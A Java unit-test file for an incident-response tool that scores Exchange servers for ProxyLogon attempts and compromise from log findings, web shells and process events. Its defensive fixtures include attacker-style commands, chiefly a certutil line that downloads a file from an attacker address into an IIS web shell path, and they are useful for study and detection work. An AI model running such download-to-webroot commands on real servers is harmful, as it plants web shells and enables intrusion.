package org.exhunt.hunt.verdict;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.exhunt.core.Compromise;
import org.exhunt.core.Evidence;
import org.exhunt.core.Exposure;
import org.exhunt.core.Finding;
import org.exhunt.core.Rows;
import org.exhunt.core.Severity;
import org.exhunt.core.SourceRef;
import org.exhunt.core.Stage;
import org.exhunt.core.Verdict;
import org.exhunt.core.facts.ExposureWindow;
import org.junit.jupiter.api.Test;

/** Every verdict state and every linking rule, on constructed findings and log coverage. */
class VerdictsTest {

    private static final Instant FIRST_EXPLOITED = Instant.parse("2021-01-03T00:00:00Z");
    private static final RowProfile PROXYLOGON = new RowProfile("ProxyLogon", List.of("CVE-2021-26855"),
            FIRST_EXPLOITED, "Volexity");
    private static final String SHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx";

    private final List<Finding> findings = new ArrayList<>();
    private final WebRequests requests = new WebRequests();
    private int lines;

    // --- compromise from evidence ---

    @Test
    void exploitRequestsAloneAreAnAttempt() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T10:00:00Z", "192.0.2.7"));
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T11:00:00Z", "192.0.2.8"));
        Verdict v = proxyLogon(covered());
        assertThat(v.compromise()).isEqualTo(Compromise.ATTEMPTED);
        assertThat(v.reason()).contains("2 exploit requests from 192.0.2.7, 192.0.2.8")
                .contains("2021-03-02T10:00:00Z to 2021-03-02T11:00:00Z").contains("none answered as the exploit wants");
    }

    @Test
    void aSignOfSuccessIsACompromise() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T10:00:00Z", "192.0.2.7"));
        findings.add(exploit("oab-write", Stage.SUCCESS, "2021-03-02T10:05:00Z", "192.0.2.7"));
        Verdict v = proxyLogon(covered());
        assertThat(v.compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(v.reason()).contains("1 sign of success from 192.0.2.7, first: oab-write at 2021-03-02T10:05:00Z");
    }

    // --- linking rules ---

    @Test
    void aShellSpecificToAChainIsThatChainsAndLeavesPostExploitationClean() {
        findings.add(Finding.builder(shell(SHELL, null)).chain("ProxyLogon").build());
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(o, "ProxyLogon").detail()).contains("is specific to ProxyLogon");
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
    }

    @Test
    void everyFindingOfALinkedFileGoesWithIt() {
        findings.add(Finding.builder(shell(SHELL, null)).chain("ProxyLogon").build());
        findings.add(Finding.builder("ioc", "name").title("shell name").severity(Severity.HIGH).stage(Stage.POST_EXPLOITATION)
                .source(SourceRef.file(SHELL)).evidence("path", SHELL.toUpperCase()).build());
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("name")).singleElement().satisfies(f -> {
            assertThat(f.chain()).isEqualTo("ProxyLogon");
            assertThat(f.evidence("linked_because")).isEqualTo("same file as shell: rule shell is specific to ProxyLogon");
        });
    }

    @Test
    void aShellWhosePathTheChainsEvidenceNamesIsLinkedEvenInUncForm() {
        findings.add(exploit("oab-write", Stage.ATTEMPT, "2021-03-02T10:05:00Z", null,
                "path", "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\X.ASPX'"));
        findings.add(shell(SHELL, null));
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(o, "ProxyLogon").detail()).contains("its path is named by ProxyLogon evidence (oab-write");
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("shell")).singleElement()
                .satisfies(f -> assertThat(f.chain()).isEqualTo("ProxyLogon"))
                .satisfies(f -> assertThat(f.evidence("linked_because")).startsWith("its path is named by"));
    }

    @Test
    void aLongerNameStartingWithTheShellsPathIsNotTheShell() {
        findings.add(exploit("oab-write", Stage.ATTEMPT, "2021-03-02T10:05:00Z", null, "path", SHELL + ".bak"));
        findings.add(shell(SHELL, null));
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.ATTEMPTED);
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.COMPROMISED);
    }

    @Test
    void theSameClientWithin24HoursBeforeTheFirstRequestLinksTheShell() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-01T11:00:00Z", "192.0.2.7"));
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        request("/ASPNET_CLIENT/system_web/x.aspx", Instant.parse("2021-03-02T10:00:00Z"), "192.0.2.7", "200");
        request("/aspnet_client/system_web/x.aspx", Instant.parse("2021-03-02T12:00:00Z"), "198.51.100.1", "200");
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(o, "ProxyLogon").detail()).contains("first requested at 2021-03-02T10:00:00Z by 192.0.2.7");
    }

    @Test
    void theSameClientMoreThan24HoursBeforeOrAfterDoesNotLink() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-01T09:59:59Z", "192.0.2.7"));
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T10:00:01Z", "192.0.2.7"));
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        request("/aspnet_client/system_web/x.aspx", Instant.parse("2021-03-02T10:00:00Z"), "192.0.2.7", "200");
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.ATTEMPTED);
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.COMPROMISED);
    }

    @Test
    void anotherClientDoesNotLink() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T09:00:00Z", "192.0.2.99"));
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        request("/aspnet_client/system_web/x.aspx", Instant.parse("2021-03-02T10:00:00Z"), "192.0.2.7", "200");
        assertThat(row(decide(covered()), Rows.POST_EXPLOITATION).compromise())
                .isEqualTo(Compromise.COMPROMISED);
    }

    @Test
    void aCommandNamingTheExploitingClientsAddressIsLinkedAndSoIsTheFileItWrites() {
        // Security auditing alone: a shell under w3wp.exe, without the application pool, fetching from the exploit's client
        findings.add(exploit("owassrf", Stage.SUCCESS, "2021-03-02T09:00:00Z", "192.0.2.7"));
        findings.add(process("cmd.exe /c certutil.exe -urlcache -split -f http://192.0.2.7/a.txt \"" + SHELL + "\"",
                "2021-03-02T09:00:08Z"));
        Finding shell = shell(SHELL, null);
        findings.add(shell);
        Verdicts.Outcome o = decide(covered());
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("shell-from-w3wp")).singleElement()
                .satisfies(f -> assertThat(f.evidence("linked_because")).contains("names 192.0.2.7"));
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("shell")).singleElement()
                .satisfies(f -> assertThat(f.chain()).isEqualTo("ProxyLogon"))
                .satisfies(f -> assertThat(f.evidence("linked_because")).contains("its path is named by shell-from-w3wp"));
    }

    @Test
    void anAddressInsideALongerNumberOrOutsideTheWindowDoesNotLink() {
        findings.add(exploit("owassrf", Stage.SUCCESS, "2021-03-02T09:00:00Z", "192.0.2.7"));
        findings.add(process("certutil -f http://192.0.2.71/a.txt", "2021-03-02T09:00:08Z"));
        findings.add(process("certutil -f http://192.0.2.7/b.txt", "2021-03-03T09:00:01Z"));
        findings.add(process("certutil -f http://192.0.2.7/c.txt", "2021-03-02T08:59:59Z"));
        assertThat(row(decide(covered()), Rows.POST_EXPLOITATION).reason()).contains("3 findings not linked");
    }

    // --- the requests to a file left behind ---

    @Test
    void aLinkedShellRequestedFromTheAttackersAddressIsAFindingOfItsChainAtTheFirstRequest() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T09:00:00Z", "192.0.2.7"));
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        findings.add(Finding.builder("yara", "chopper").title("Chopper").severity(Severity.HIGH).stage(Stage.POST_EXPLOITATION).source(SourceRef.file(SHELL))
                .evidence("path", SHELL).evidence("url", "/aspnet_client/system_web/x.aspx").build());
        request("/aspnet_client/system_web/x.aspx", "2021-03-02T12:00:00Z", "198.51.100.1", "404");
        request("/ASPNET_CLIENT/system_web/x.aspx", "2021-03-02T10:00:00Z", "192.0.2.7", "200");
        request("/aspnet_client/system_web/x.aspx", "2021-03-02T11:00:00Z", "192.0.2.7", "200");
        Verdicts.Outcome o = decide(covered());

        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(o, "ProxyLogon").reason()).doesNotContain(RequestedFiles.RULE);
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals(RequestedFiles.RULE)).singleElement().satisfies(f -> {
            assertThat(f.chain()).isEqualTo("ProxyLogon");
            assertThat(f.stage()).isEqualTo(Stage.POST_EXPLOITATION);
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.time()).isEqualTo(Instant.parse("2021-03-02T10:00:00Z"));
            assertThat(f.source()).isEqualTo(SourceRef.line("u_ex210302.log", 2));
            assertThat(f.title()).isEqualTo("Web shell requested 3 times, first at 2021-03-02T10:00:00Z from 192.0.2.7,"
                    + " last at 2021-03-02T12:00:00Z: /aspnet_client/system_web/x.aspx");
            assertThat(f.evidence()).containsExactly(new Evidence("url", "/aspnet_client/system_web/x.aspx"),
                    new Evidence("path", SHELL), new Evidence("requests", "3"),
                    new Evidence("first_request", "2021-03-02T10:00:00Z"), new Evidence("first_client_ip", "192.0.2.7"),
                    new Evidence("first_request_source", "u_ex210302.log:2"),
                    new Evidence("last_request", "2021-03-02T12:00:00Z"), new Evidence("last_request_source", "u_ex210302.log:1"),
                    new Evidence("client_ips", "192.0.2.7, 198.51.100.1"), new Evidence("sc-status", "200 (2), 404 (1)"));
        });
        assertThat(o.findings()).isSortedAccordingTo(Verdicts.REPORT_ORDER);
    }

    @Test
    void anUnlinkedShellsRequestsCountForPostExploitationEvenRefused() {
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        request("/aspnet_client/system_web/x.aspx", "2021-03-02T10:00:00Z", "198.51.100.1", "404");
        Verdicts.Outcome o = decide(covered());

        assertThat(row(o, "ProxyLogon").compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.COMPROMISED);
        assertThat(row(o, Rows.POST_EXPLOITATION).reason()).isEqualTo("1 finding not linked to a chain: " + SHELL);
        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals(RequestedFiles.RULE)).singleElement().satisfies(f -> {
            assertThat(f.chain()).isNull();
            assertThat(f.stage()).isEqualTo(Stage.POST_EXPLOITATION);
            assertThat(f.title()).isEqualTo("Web shell requested once, at 2021-03-02T10:00:00Z from 198.51.100.1:"
                    + " /aspnet_client/system_web/x.aspx (never answered with success: 404)");
            assertThat(f.evidence("sc-status")).isEqualTo("404");
        });
    }

    @Test
    void aShellNeverRequestedOrNotServedGivesNoRequestFinding() {
        findings.add(exploit("ssrf", Stage.ATTEMPT, "2021-03-02T09:00:00Z", "192.0.2.7"));
        findings.add(shell(SHELL, "/aspnet_client/system_web/x.aspx"));
        findings.add(shell("C:\\Windows\\Temp\\x.aspx", null));
        request("/aspnet_client/system_web/other.aspx", "2021-03-02T10:00:00Z", "192.0.2.7", "200");
        Verdicts.Outcome o = decide(covered());
        assertThat(o.findings()).noneMatch(f -> f.ruleId().equals(RequestedFiles.RULE));
        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.COMPROMISED);
    }

    @Test
    void contextFindingsOnAServedFileGiveNoRequestFinding() {
        findings.add(Finding.builder("ioc", "name").title("a name").severity(Severity.MEDIUM).stage(Stage.CONTEXT).source(SourceRef.file(SHELL))
                .evidence("path", SHELL).evidence("url", "/aspnet_client/system_web/x.aspx").build());
        request("/aspnet_client/system_web/x.aspx", "2021-03-02T10:00:00Z", "192.0.2.7", "200");
        Verdicts.Outcome o = decide(covered());
        assertThat(o.findings()).noneMatch(f -> f.ruleId().equals(RequestedFiles.RULE));
        assertThat(o.verdicts()).extracting(Verdict::compromise).containsOnly(Compromise.CLEAN);
    }

    // --- counting and the window (the window rule itself: WindowRuleTest) ---

    @Test
    void anAttemptIsARequestNotARuleMatch() {
        // eight requests, the first five matched by two rules each: thirteen matches
        for (int i = 0; i < 8; i++) {
            for (int r = 0; r < (i < 5 ? 2 : 1); r++) {
                findings.add(Finding.builder("sigma", "rule-" + r).title("rule " + r).severity(Severity.HIGH).chain("ProxyLogon")
                        .stage(Stage.ATTEMPT).time(Instant.parse("2021-03-02T10:00:0" + i + "Z"))
                        .source(SourceRef.line("u_ex210302.log", 100 + i)).evidence("c-ip", "192.0.2.7").build());
            }
        }
        assertThat(findings).hasSize(13);
        Verdict v = proxyLogon(covered());
        assertThat(v.compromise()).isEqualTo(Compromise.ATTEMPTED);
        assertThat(v.reason()).startsWith("8 exploit requests from 192.0.2.7");
    }

    @Test
    void everyChainVerdictCarriesItsWindowAndAShortReason() {
        findings.add(exploit("ssrf", Stage.SUCCESS, "2021-03-02T10:00:00Z", "192.0.2.7"));
        Verdict v = proxyLogon(covered());
        assertThat(v.window()).isEqualTo(covered());
        assertThat(v.reason().length()).isLessThanOrEqualTo(Verdict.REASON_LENGTH);
        assertThat(v.detail()).startsWith("build 15.1.2176.2; 1 sign of success").contains("possibly exposed from 2021-01-03 00:00");
    }

    @Test
    void withoutEvidenceTheWindowDecides() {
        Verdict v = proxyLogon(covered());
        assertThat(v.compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(v.reason()).isEqualTo("exposed 2021-01-03 to 2021-04-01: HttpProxy logs cover it all, showing nothing");
        assertThat(v.exposure()).isEqualTo(Exposure.VULNERABLE);
    }

    @Test
    void aProductTheChainDoesNotAffectIsCleanWithoutLogs() {
        RowAssessment row = new RowAssessment(PROXYLOGON, Exposure.NOT_AFFECTED, "Exchange 2010", null);
        Verdict v = Verdicts.decide("s", List.of(row), findings, requests, 0).verdicts().get(0);
        assertThat(v.compromise()).isEqualTo(Compromise.CLEAN);
        assertThat(v.reason()).isEqualTo("the product is not affected by ProxyLogon");
        assertThat(v.detail()).isEqualTo("Exchange 2010; the product is not affected by ProxyLogon");
        assertThat(v.window()).isNull();
    }

    @Test
    void contextFindingsNeverChangeAVerdict() {
        findings.add(Finding.builder("ioc", "archive").title("archive").severity(Severity.MEDIUM).stage(Stage.CONTEXT)
                .source(SourceRef.file("C:\\ProgramData\\it.zip")).evidence("path", "C:\\ProgramData\\it.zip").build());
        Verdicts.Outcome o = decide(covered());
        assertThat(o.verdicts()).extracting(Verdict::compromise).containsOnly(Compromise.CLEAN);
    }

    // --- helpers ---

    private Verdict proxyLogon(ExposureWindow window) {
        return row(decide(window), "ProxyLogon");
    }

    private Verdicts.Outcome decide(ExposureWindow window) {
        RowAssessment row = new RowAssessment(PROXYLOGON, Exposure.VULNERABLE, "build 15.1.2176.2", window);
        return Verdicts.decide("s", List.of(row), findings, requests, 3);
    }

    /** Exposed from the chain's first exploitation to the end of the evidence, and HttpProxy logs cover all of it. */
    private static ExposureWindow covered() {
        Instant end = Instant.parse("2021-04-01T00:00:00Z");
        return new ExposureWindow(FIRST_EXPLOITED, FIRST_EXPLOITED, end, null, end,
                List.of(new ExposureWindow.Span(FIRST_EXPLOITED, end, "CU19 (15.1.2176.2) (vulnerable)")),
                List.of(new ExposureWindow.Span(FIRST_EXPLOITED, end, "HttpProxy logs")), List.of(),
                List.of("exchange-httpproxy", "iis"), List.of());
    }

    private static Verdict row(Verdicts.Outcome o, String name) {
        return o.verdicts().stream().filter(v -> v.row().equals(name)).findFirst().orElseThrow();
    }

    /** A request as IIS logs it, on the next line of the day's log. */
    private void request(String url, String time, String ip, String status) {
        request(url, Instant.parse(time), ip, status);
    }

    private void request(String url, Instant time, String ip, String status) {
        String log = "u_ex" + time.toString().substring(2, 10).replace("-", "") + ".log";
        requests.add(url, time, ip, status, SourceRef.line(log, ++lines));
    }

    private static int line;

    private static Finding exploit(String rule, Stage stage, String time, String ip, String... evidence) {
        Finding.Builder b = Finding.builder("sigma", rule).title(rule).severity(Severity.HIGH).chain("ProxyLogon")
                .stage(stage).time(Instant.parse(time)).source(SourceRef.line("HttpProxy.LOG", ++line));
        if (ip != null) b.evidence("ClientIpAddress", ip);
        for (int i = 0; i < evidence.length; i += 2) b.evidence(evidence[i], evidence[i + 1]);
        return b.build();
    }

    private static Finding process(String commandLine, String time) {
        return Finding.builder("sigma", "shell-from-w3wp").title("IIS worker starts a shell").severity(Severity.HIGH)
                .stage(Stage.POST_EXPLOITATION).time(Instant.parse(time)).source(SourceRef.line("Security.evtx", 9))
                .evidence("CommandLine", commandLine).evidence("ParentProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")
                .build();
    }

    private static Finding shell(String path, String url) {
        Finding.Builder b = Finding.builder("ioc", "shell").title("web shell").severity(Severity.CRITICAL)
                .stage(Stage.POST_EXPLOITATION).source(SourceRef.file(path)).evidence("path", path)
                .time(Instant.parse("2021-03-02T10:01:00Z"));
        if (url != null) b.evidence("url", url);
        return b.build();
    }
}
